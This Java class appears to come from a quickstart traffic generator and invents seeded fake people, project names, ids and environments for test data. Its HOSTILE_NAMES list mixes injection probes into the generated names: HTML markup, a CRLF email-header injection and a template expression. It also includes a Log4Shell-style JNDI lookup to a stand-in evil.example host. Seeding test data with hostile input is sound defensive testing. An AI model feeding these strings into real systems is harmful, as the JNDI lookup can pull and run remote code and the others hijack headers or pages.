package io.seqpulse.quickstart.traffic;

import java.util.List;
import java.util.Random;
import java.util.UUID;

/** Invents people, projects and ids; the same seed invents the same. Not thread-safe. */
final class People {

    private static final List<String> FIRST_NAMES =
            List.of(
                    "Nadia", "Nassir", "Élodie", "Björn", "Chloé", "Marcus", "Ying", "Tomás", "Zoë",
                    "Amara", "Łukasz", "Priya", "Oscar", "Fatima", "Hugo", "Maëlle", "Ivan",
                    "Saoirse", "Kenji", "Inès");
    private static final List<String> LAST_NAMES =
            List.of(
                    "Martin",
                    "Bernard",
                    "Nguyen",
                    "Kowalski",
                    "O'Brien",
                    "García",
                    "Schmidt",
                    "Rossi",
                    "Haddad",
                    "Lefèvre",
                    "Andersson",
                    "Tanaka",
                    "Diallo",
                    "Murphy");
    private static final List<String> PROJECTS =
            List.of(
                    "API Gateway",
                    "Checkout API",
                    "Billing",
                    "Search",
                    "Catalogue",
                    "Identité",
                    "Mobile BFF",
                    "Webhooks",
                    "Data Lake",
                    "Notifications",
                    "Facturation & Taxes",
                    "Ledger");

    /** What some people enter as their name. */
    private static final List<String> HOSTILE_NAMES =
            List.of(
                    "<b>Eve</b> & \"friends\"",
                    "Win at https://evil.example/prize now",
                    "Bob\r\nBcc: everyone@live.example",
                    "{{ 7 * 7 }} ${jndi:ldap://evil.example}",
                    "Wolfeschlegelsteinhausenbergerdorff".repeat(4));

    private final Random random;
    private final String domain;
    private final String prefix;
    private int number;

    /**
     * @param domain of everybody's address
     * @param prefix of everybody's address, before a number
     */
    People(Random random, String domain, String prefix) {
        this.random = random;
        this.domain = domain;
        this.prefix = prefix;
    }

    /** A random UUID (version 4). */
    UUID id() {
        long most = (random.nextLong() & ~0xF000L) | 0x4000L;
        long least = (random.nextLong() & ~0xC000_0000_0000_0000L) | 0x8000_0000_0000_0000L;
        return new UUID(most, least);
    }

    Person person() {
        number++;
        String first = pick(FIRST_NAMES);
        String name = first + " " + pick(LAST_NAMES);
        boolean hostile = random.nextInt(12) == 0;
        String locale = pick(List.of("fr", "fr", "en", "en", "fr-CA"));
        return new Person(
                id(),
                hostile ? pick(HOSTILE_NAMES) : name,
                hostile || random.nextInt(4) == 0 ? null : first,
                "%s%s@%s".formatted(prefix, number, domain),
                random.nextInt(10) == 0 ? null : locale,
                random.nextInt(3) == 0 ? null : "Europe/Paris");
    }

    /** An address of somebody who is no user. */
    String address() {
        number++;
        return "%s%s.oncall@%s".formatted(prefix, number, domain);
    }

    String projectName() {
        return random.nextInt(25) == 0 ? pick(HOSTILE_NAMES) : pick(PROJECTS);
    }

    String branch() {
        return pick(List.of("main", "main", "main", "release/2026.11", "hotfix/login"));
    }

    String environment() {
        return pick(List.of("prod", "prod", "staging"));
    }

    boolean oneIn(int n) {
        return random.nextInt(n) == 0;
    }

    int below(int n) {
        return random.nextInt(n);
    }

    <T> T pick(List<T> choices) {
        return choices.get(random.nextInt(choices.size()));
    }

    /** Somebody with an account. Fields may be null where the product's columns may. */
    record Person(
            UUID id, String name, String firstName, String email, String locale, String timezone) {}
}
